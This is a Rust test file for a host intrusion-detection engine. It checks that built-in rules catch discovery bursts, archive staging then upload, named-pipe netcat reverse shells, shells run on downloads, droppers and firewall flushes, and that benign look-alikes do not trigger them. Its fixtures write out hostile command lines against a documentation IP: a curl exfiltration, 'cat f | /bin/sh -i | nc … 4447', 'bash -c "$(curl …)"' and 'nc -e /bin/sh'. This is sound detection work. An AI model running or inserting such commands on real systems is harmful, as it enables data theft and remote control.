//! The built-in pack on the event shapes the end-to-end scenarios produced (issue 6): commands
//! behind `sh -c` wrappers, a tool's forked copy writing its output, a named-pipe reverse shell,
//! a shell run on a download's output, and iptables command lines.

use serde_json::{Value, json};

use super::{exec, net, open, run, titles};
use crate::detect::{Engine, EngineConfig, RuleSet};

fn builtin() -> Engine {
    let set = RuleSet::builtin();
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    Engine::new(&set, EngineConfig::default()).expect("engine")
}

/// An ancestor as `process.ancestors` records it.
fn anc(pid: u32, exe: &str, args: &[&str]) -> Value {
    json!({"pid": pid, "entity_id": format!("ent-{pid}"), "executable": exe, "args": args})
}

/// Lineage fields: `chain` is the ancestry, parent first.
fn lineage(chain: &[Value]) -> Value {
    let parent = &chain[0];
    let command_line = parent["args"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(Value::as_str)
                .collect::<Vec<_>>()
                .join(" ")
        })
        .unwrap_or_default();
    json!({"process": {
        "parent": {"pid": parent["pid"], "entity_id": parent["entity_id"],
                   "executable": parent["executable"], "args": parent["args"],
                   "command_line": command_line},
        "ancestors": chain,
    }})
}

const DISCOVERY_BURST: &str = "Burst of Discovery Commands Under One Parent";

#[test]
fn discovery_through_sh_c_wrappers_counts_under_the_implant() {
    let script = anc(100, "/usr/bin/bash", &["bash", "run.sh"]);
    let perl = anc(101, "/usr/bin/perl", &["perl", "-e", "..."]);
    let mut events = Vec::new();
    for (i, (exe, cmd)) in [
        ("/usr/bin/whoami", "whoami"),
        ("/usr/bin/id", "id"),
        ("/usr/bin/uname", "uname -a"),
        ("/usr/sbin/lsmod", "lsmod"),
    ]
    .iter()
    .enumerate()
    {
        let wrapper_pid = 110 + 2 * i as u32;
        let wrapper = anc(wrapper_pid, "/bin/sh", &["sh", "-c", cmd]);
        let extra = lineage(&[wrapper, perl.clone(), script.clone()]);
        events.push(exec(i as f64, wrapper_pid + 1, exe, cmd, extra));
    }
    let alerts = run(&mut builtin(), &events);
    let bursts: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"]["name"] == DISCOVERY_BURST)
        .collect();
    assert_eq!(bursts.len(), 1, "{:?}", titles(&alerts));
    // The implant is in the alert's ancestry: the wrapper shell is its parent.
    let ancestors = bursts[0]["process"]["ancestors"]
        .as_array()
        .expect("ancestry");
    assert!(ancestors.iter().any(|a| a["pid"] == 101));
}

#[test]
fn commands_of_different_wrapper_free_parents_do_not_merge() {
    // Interactive shells are not wrappers: two sessions' commands stay apart.
    let mut events = Vec::new();
    for (i, exe) in [
        "/usr/bin/whoami",
        "/usr/bin/id",
        "/usr/bin/uname",
        "/usr/bin/ps",
    ]
    .iter()
    .enumerate()
    {
        let shell = anc(200 + (i as u32 % 2), "/usr/bin/bash", &["-bash"]);
        let sshd = anc(199, "/usr/sbin/sshd", &["sshd: root@pts/0"]);
        let extra = lineage(&[shell, sshd]);
        events.push(exec(i as f64, 210 + i as u32, exe, "x", extra));
    }
    let alerts = run(&mut builtin(), &events);
    assert!(
        !titles(&alerts).iter().any(|t| t == DISCOVERY_BURST),
        "{:?}",
        titles(&alerts)
    );
}

#[test]
fn tar_z_archive_written_by_its_fork_then_sent_by_curl() {
    let script = anc(300, "/usr/bin/bash", &["bash", "exfil.sh"]);
    let tar = anc(301, "/usr/bin/tar", &["tar", "-czf", "/tmp/.s/a.tgz", "."]);
    let mut write = open(0.0, 302, "/usr/bin/tar", "/tmp/.s/a.tgz", true);
    super::merge(&mut write, lineage(&[tar, script.clone()]));
    let curl_cmd = "curl --data-binary @/tmp/.s/a.tgz http://198.51.100.2/up";
    let curl = exec(
        1.0,
        303,
        "/usr/bin/curl",
        curl_cmd,
        lineage(std::slice::from_ref(&script)),
    );
    let mut connect = net(
        1.1,
        303,
        "/usr/bin/curl",
        true,
        ("198.51.100.2", 80),
        json!({}),
    );
    super::merge(&mut connect, lineage(&[script]));
    let alerts = run(&mut builtin(), &[write, curl, connect]);
    let hit = alerts
        .iter()
        .find(|a| {
            a["rule"]["name"] == "Data Staged in an Archive Then Sent Out by the Same Session"
        })
        .unwrap_or_else(|| panic!("no staging alert: {:?}", titles(&alerts)));
    assert_eq!(hit["process"]["pid"], 303);
}

const MKFIFO: &str = "Reverse Shell Through a Named Pipe and netcat";

#[test]
fn named_pipe_reverse_shell_pairs_the_shell_and_the_relay() {
    let wrapper = anc(
        400,
        "/usr/bin/bash",
        &[
            "bash",
            "-c",
            "cat f | /bin/sh -i 2>&1 | nc 198.51.100.2 4447 > f",
        ],
    );
    let pipes = json!({"sensor": {"stdio": {"stdin": "pipe", "stdout": "pipe"}}});
    let mut shell = exec(
        0.0,
        402,
        "/bin/sh",
        "/bin/sh -i",
        lineage(std::slice::from_ref(&wrapper)),
    );
    super::merge(&mut shell, pipes);
    let mut connect = net(
        0.2,
        403,
        "/usr/bin/nc.openbsd",
        true,
        ("198.51.100.2", 4447),
        json!({}),
    );
    super::merge(&mut connect, lineage(&[wrapper]));
    let alerts = run(&mut builtin(), &[shell, connect]);
    let hit = alerts
        .iter()
        .find(|a| a["rule"]["name"] == MKFIFO)
        .unwrap_or_else(|| panic!("no alert: {:?}", titles(&alerts)));
    let events = hit["sensor"]["correlation"]["events"]
        .as_array()
        .expect("correlation events");
    let pids: Vec<&Value> = events.iter().map(|e| &e["process"]["pid"]).collect();
    assert!(pids.contains(&&json!(402)), "{pids:?}");
}

#[test]
fn a_piped_shell_and_an_unrelated_nc_do_not_pair() {
    let pipes = json!({"sensor": {"stdio": {"stdin": "pipe", "stdout": "pipe"}}});
    let a = anc(500, "/usr/bin/bash", &["bash", "a.sh"]);
    let b = anc(501, "/usr/bin/bash", &["bash", "b.sh"]);
    let mut shell = exec(0.0, 502, "/bin/sh", "/bin/sh", lineage(&[a]));
    super::merge(&mut shell, pipes);
    let mut connect = net(
        0.2,
        503,
        "/usr/bin/nc",
        true,
        ("198.51.100.2", 25),
        json!({}),
    );
    super::merge(&mut connect, lineage(&[b]));
    // The same parent but 30 s apart does not pair either.
    let c = anc(504, "/usr/bin/bash", &["bash", "c.sh"]);
    let mut late_shell = exec(
        40.0,
        505,
        "/bin/sh",
        "/bin/sh",
        lineage(std::slice::from_ref(&c)),
    );
    super::merge(
        &mut late_shell,
        json!({"sensor": {"stdio": {"stdin": "pipe", "stdout": "pipe"}}}),
    );
    let mut late = net(
        70.0,
        506,
        "/usr/bin/nc",
        true,
        ("198.51.100.2", 25),
        json!({}),
    );
    super::merge(&mut late, lineage(&[c]));
    let alerts = run(&mut builtin(), &[shell, connect, late_shell, late]);
    assert!(
        !titles(&alerts).iter().any(|t| t == MKFIFO),
        "{:?}",
        titles(&alerts)
    );
}

#[test]
fn shell_whose_own_command_line_runs_a_download() {
    let script = anc(600, "/usr/bin/bash", &["bash", "x.sh"]);
    let outer = exec(
        0.0,
        601,
        "/usr/bin/bash",
        "bash -c bash -c \"$(curl -fsSL http://198.51.100.2:8080/get)\"",
        lineage(std::slice::from_ref(&script)),
    );
    // A shell merely mentioning curl, without substitution, is not it.
    let plain = exec(
        1.0,
        602,
        "/usr/bin/bash",
        "bash -c curl -fsSL -o /tmp/x http://198.51.100.2/x",
        lineage(&[script]),
    );
    let alerts = run(&mut builtin(), &[outer, plain]);
    let pids: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"]["name"] == "Shell Running the Output of a Download")
        .map(|a| &a["process"]["pid"])
        .collect();
    assert_eq!(pids, [&json!(601)], "{:?}", titles(&alerts));
}

#[test]
fn iptables_forms_that_open_the_firewall() {
    const FIREWALL: &str = "Host Firewall Flushed, Opened or Disabled";
    let cases = [
        ("/usr/sbin/iptables", "iptables -I INPUT 1 -j ACCEPT", true),
        ("/usr/sbin/iptables", "iptables -F OUTPUT", true),
        ("/usr/sbin/iptables", "iptables -F", true),
        ("/usr/sbin/iptables", "iptables -P INPUT ACCEPT", true),
        ("/usr/sbin/ip6tables", "ip6tables -t filter --flush", true),
        ("/usr/sbin/iptables", "iptables -D INPUT 1", true),
        (
            "/usr/sbin/xtables-nft-multi",
            "xtables-nft-multi iptables -P FORWARD ACCEPT",
            true,
        ),
        (
            "/usr/sbin/iptables",
            "iptables -A INPUT -p tcp --dport 22 -j DROP",
            false,
        ),
        ("/usr/sbin/iptables", "iptables -P INPUT DROP", false),
        ("/usr/sbin/iptables", "iptables -S INPUT", false),
        ("/usr/sbin/iptables", "iptables -L -n", false),
    ];
    for (i, (exe, cmd, expected)) in cases.iter().enumerate() {
        let alerts = run(&mut builtin(), &[exec(i as f64, 700, exe, cmd, json!({}))]);
        let fired = titles(&alerts).iter().any(|t| t == FIREWALL);
        assert_eq!(fired, *expected, "{cmd}");
    }
}

const SOCKET_STDIO: &str = "Shell or Interpreter With a Network Socket as Standard Input";

#[test]
fn shells_inheriting_a_reverse_shells_socket_do_not_alert_again() {
    let socket = json!({"sensor": {"stdio": {"stdin": "socket", "stdout": "socket"}}});
    let script = anc(800, "/usr/bin/bash", &["bash", "x.sh"]);
    let mut first = exec(0.0, 801, "/usr/bin/bash", "bash -i", lineage(&[script]));
    super::merge(&mut first, socket.clone());
    // bash -i runs its login scripts: each is a shell with the inherited socket on stdin.
    let bash_i = anc(801, "/usr/bin/bash", &["bash", "-i"]);
    let mut child = exec(
        1.0,
        802,
        "/usr/bin/bash",
        "bash /root/.pyenv/libexec/pyenv-init -",
        lineage(&[bash_i]),
    );
    super::merge(&mut child, socket.clone());
    super::merge(
        &mut child,
        json!({"sensor": {"stdio": {"parent_stdin": "socket"}}}),
    );
    // nc -e hands the socket to the shell: nc is not a shell, so that shell alerts.
    let nc = anc(803, "/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh"]);
    let mut by_nc = exec(2.0, 804, "/bin/sh", "sh", lineage(&[nc]));
    super::merge(&mut by_nc, socket);
    super::merge(
        &mut by_nc,
        json!({"sensor": {"stdio": {"parent_stdin": "socket"}}}),
    );
    let alerts = run(&mut builtin(), &[first, child, by_nc]);
    let pids: Vec<&Value> = alerts
        .iter()
        .filter(|a| a["rule"]["name"] == SOCKET_STDIO)
        .map(|a| &a["process"]["pid"])
        .collect();
    assert_eq!(pids, [&json!(801), &json!(804)], "{:?}", titles(&alerts));
}

#[test]
fn tool_manager_shims_are_not_a_dropper() {
    const DROPPER: &str = "Download, chmod +x and Execution of a Tool in a Staging Location";
    let sequence = |dir: &str, base: u32| {
        let file = format!("{dir}/python3");
        let session = lineage(&[anc(base - 1, "/usr/bin/bash", &["bash", "setup.sh"])]);
        let mut events = [
            open(f64::from(base), base, "/usr/bin/bash", &file, true),
            exec(
                f64::from(base) + 1.0,
                base + 1,
                "/usr/bin/chmod",
                &format!("chmod +x {file}"),
                json!({}),
            ),
            exec(f64::from(base) + 2.0, base + 2, &file, "python3", json!({})),
        ];
        for e in &mut events {
            super::merge(e, session.clone());
        }
        events
    };
    let shims = sequence("/root/.pyenv/shims", 900);
    let alerts = run(&mut builtin(), &shims);
    assert!(
        !titles(&alerts).iter().any(|t| t == DROPPER),
        "{:?}",
        titles(&alerts)
    );
    let hidden = sequence("/home/u/.x", 910);
    let alerts = run(&mut builtin(), &hidden);
    assert!(
        titles(&alerts).iter().any(|t| t == DROPPER),
        "{:?}",
        titles(&alerts)
    );
}

#[test]
fn dropper_steps_each_run_through_system_correlate_under_the_implant() {
    const DROPPER: &str = "Download, chmod +x and Execution of a Tool in a Staging Location";
    let implant = anc(1000, "/usr/bin/perl", &["perl", "-e", "..."]);
    let wrapper = |pid: u32, cmd: &str| {
        let sh = anc(pid, "/bin/sh", &["sh", "-c", cmd]);
        lineage(&[sh, implant.clone()])
    };
    let mut download = open(0.0, 1002, "/usr/bin/wget", "/tmp/x", true);
    super::merge(
        &mut download,
        wrapper(1001, "wget -qO /tmp/x http://198.51.100.2/x"),
    );
    let chmod = exec(
        1.0,
        1004,
        "/usr/bin/chmod",
        "chmod +x /tmp/x",
        wrapper(1003, "chmod +x /tmp/x"),
    );
    let run_it = exec(
        2.0,
        1006,
        "/tmp/x",
        "/tmp/x",
        wrapper(1005, "/tmp/x 2>/dev/null"),
    );
    let alerts = run(&mut builtin(), &[download, chmod, run_it]);
    let hit = alerts
        .iter()
        .find(|a| a["rule"]["name"] == DROPPER)
        .unwrap_or_else(|| panic!("no dropper alert: {:?}", titles(&alerts)));
    assert_eq!(hit["process"]["pid"], 1006);
}

#[test]
fn a_bash_c_download_under_a_bash_script_is_launched_by_the_script() {
    const DROPPER: &str = "Download, chmod +x and Execution of a Tool in a Staging Location";
    let script = anc(1100, "/usr/bin/bash", &["bash", "ingress.sh"]);
    // `bash -c 'exec 3<>/dev/tcp/...; cat <&3 > /dev/shm/.x'`: the shell exec'd (it has a
    // previous image), so it is not a forked copy of the script's bash.
    let mut download = open(0.0, 1101, "/usr/bin/bash", "/dev/shm/.x", true);
    super::merge(&mut download, lineage(std::slice::from_ref(&script)));
    super::merge(
        &mut download,
        json!({"process": {"previous": [{"executable": "/usr/bin/bash"}]}}),
    );
    let lin = lineage(std::slice::from_ref(&script));
    let chmod = exec(
        1.0,
        1102,
        "/usr/bin/chmod",
        "chmod +x /dev/shm/.x",
        lin.clone(),
    );
    let run_it = exec(2.0, 1103, "/dev/shm/.x", "/dev/shm/.x", lin);
    let alerts = run(&mut builtin(), &[download, chmod, run_it]);
    assert!(
        titles(&alerts).iter().any(|t| t == DROPPER),
        "{:?}",
        titles(&alerts)
    );
}
